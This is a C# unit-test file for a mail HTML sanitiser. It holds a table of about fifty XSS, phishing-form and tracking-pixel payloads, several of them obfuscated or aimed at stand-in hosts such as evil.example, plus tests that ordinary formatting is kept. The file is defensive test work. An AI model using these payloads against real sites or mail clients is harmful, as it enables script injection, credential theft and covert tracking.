using ContactCenter.Server.Requests;

namespace ContactCenter.Server.Tests.Requests;

/// <summary>The sanitiser of received HTML: every hostile construct goes, ordinary mail formatting stays.</summary>
public sealed class MailHtmlShould
{
    /// <summary>Hostile HTML, and what must not survive of it (compared without regard to case).</summary>
    public static TheoryData<string, string> Vectors { get; } = new()
    {
        { "<p>Hi</p><script>alert(1)</script>", "<script" },
        { "<p>Hi</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil.example" },
        { "<img src=x onerror=alert(1)>", "onerror" },
        { "<body onload=alert(1)><p>Hi</p></body>", "onload" },
        { "<p onmouseover=\"steal()\">Hi</p>", "steal" },
        { "<a href=\"javascript:alert(1)\">click</a>", "javascript" },
        { "<a href=\" JaVaScRiPt:alert(1)\">click</a>", "alert" },
        { "<a href=\"jav&#x09;ascript:alert(1)\">click</a>", "alert" },
        { "<a href=\"vbscript:msgbox(1)\">click</a>", "vbscript" },
        { "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>", "data:" },
        { "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">", "data:" },
        { "<iframe src=\"https://evil.example\"></iframe>", "<iframe" },
        { "<frameset><frame src=\"https://evil.example\"></frameset>", "evil.example" },
        { "<object data=\"https://evil.example/x.swf\"></object>", "<object" },
        { "<embed src=\"https://evil.example/x.swf\">", "<embed" },
        { "<form action=\"https://evil.example/phish\"><input name=\"password\"><button>Log in</button></form>", "evil.example" },
        { "<p>Hi</p><input type=\"password\" name=\"pw\">", "<input" },
        { "<button formaction=\"https://evil.example\">Go</button>", "evil.example" },
        { "<textarea>x</textarea><select><option>1</option></select>", "<textarea" },
        { "<base href=\"https://evil.example/\"><a href=\"x\">x</a>", "<base" },
        { "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "<meta" },
        { "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", "<link" },
        { "<p style=\"background: url(https://tracker.example/pixel.gif)\">Hi</p>", "tracker.example" },
        { "<p style=\"background-image: u\\72l(https://tracker.example/p.gif)\">Hi</p>", "tracker.example" },
        { "<p style=\"width: expression(alert(1))\">Hi</p>", "expression" },
        { "<p style=\"behavior: url(x.htc)\">Hi</p>", "behavior" },
        { "<p style=\"-moz-binding: url(https://evil.example/x.xml#x)\">Hi</p>", "binding" },
        { "<style>@import url(https://evil.example/x.css);</style><p>Hi</p>", "@import" },
        { "<style>body { background: url(https://tracker.example/p.gif) }</style><p>Hi</p>", "tracker.example" },
        { "<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>", "evil.example" },
        { "<svg><script>alert(1)</script></svg>", "alert" },
        { "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "onerror" },
        { "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "onerror" },
        { "<img src=\"https://example.com/a.png\" srcset=\"https://evil.example/b.png 2x\">", "evil.example" },
        { "<a href=\"https://example.com\" target=\"_top\">x</a>", "_top" },
        { "<a href=\"&#106;avascript:alert(1)\">x</a>", "alert" },
        { "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>", "alert" },
        { "<img src=\"data:text/html,<script>alert(1)</script>\">", "data:" },
        { "<img src=\"DATA:image/svg+xml,<svg onload=alert(1)>\">", "alert" },
        { "<svg><image href=\"https://tracker.example/p.gif\"/></svg>", "tracker.example" },
        { "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "javascript" },
        { "<math href=\"javascript:alert(1)\">x</math>", "javascript" },
        { "<details open ontoggle=alert(1)>x</details>", "ontoggle" },
        { "<video><source onerror=\"alert(1)\"></video>", "onerror" },
        { "<audio src=\"https://tracker.example/a.mp3\"></audio>", "tracker.example" },
        { "<p style=\"background: \\75rl(https://tracker.example/p.gif)\">x</p>", "tracker.example" },
        { "<p style=\"content: url(https://tracker.example/p.gif)\">x</p>", "tracker.example" },
        { "<table background=\"https://tracker.example/bg.gif\"><tr><td>x</td></tr></table>", "tracker.example" },
        { "<div><!--<img src=x onerror=alert(1)>--></div>", "onerror" },
        { "<img src=\"x\" onerror\x0B=alert(1)>", "alert" },
        { "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script" },
        { "<isindex action=\"javascript:alert(1)\" type=image>", "javascript" },
        { "<p>Hi</p><template><script>alert(1)</script></template>", "<script" },
    };

    [Theory]
    [MemberData(nameof(Vectors))]
    public void StripEveryHostileConstruct(string html, string forbidden)
    {
        var clean = MailHtml.Sanitize(html);

        Assert.DoesNotContain(forbidden, clean, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("<p>Hello <b>bold</b>, <i>italic</i> and <u>underlined</u>.</p>")]
    [InlineData("<a href=\"https://example.com/order?id=1\">Your order</a>")]
    [InlineData("<a href=\"mailto:support@example.com\">Write to us</a>")]
    [InlineData("<table border=\"0\" cellpadding=\"4\"><tbody><tr><td style=\"text-align: right\">Total</td><td align=\"right\">12,00 €</td></tr></tbody></table>")]
    [InlineData("<ul><li>One</li><li>Two</li></ul><blockquote>Quoted</blockquote>")]
    [InlineData("<img src=\"cid:logo.part1@example.com\" alt=\"Logo\">")]
    [InlineData("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"Dot\">")]
    [InlineData("<div style=\"font-family: Arial; font-size: 14px; margin: 0 8px\"><span style=\"font-weight: bold\">Hi</span></div>")]
    [InlineData("<p><font color=\"#336699\" face=\"Verdana\">Old-style formatting</font></p>")]
    public void KeepOrdinaryFormatting(string html)
    {
        Assert.Equal(html, MailHtml.Sanitize(html));
    }

    [Fact]
    public void KeepTheTextOfAWholeDocument()
    {
        var clean = MailHtml.Sanitize("<html><head><title>T</title><style>p { color: blue }</style></head><body><p>Dear customer,</p></body></html>");

        Assert.Contains("<p>Dear customer,</p>", clean, StringComparison.Ordinal);
        Assert.Contains("<style>p { color: ", clean, StringComparison.Ordinal);
        Assert.Equal("", MailHtml.Sanitize("  "));
    }
}
